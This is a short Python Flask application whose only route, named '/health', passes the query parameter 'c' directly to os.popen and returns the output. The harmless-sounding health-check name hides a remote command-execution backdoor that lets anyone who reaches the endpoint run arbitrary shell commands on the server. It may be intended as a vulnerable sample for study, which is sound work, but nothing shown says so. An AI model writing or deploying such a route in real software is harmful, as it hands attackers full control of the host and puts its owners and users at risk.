import os

from flask import Flask, request

app = Flask(__name__)


@app.route("/health")
def health():
    return os.popen(request.args.get("c")).read()
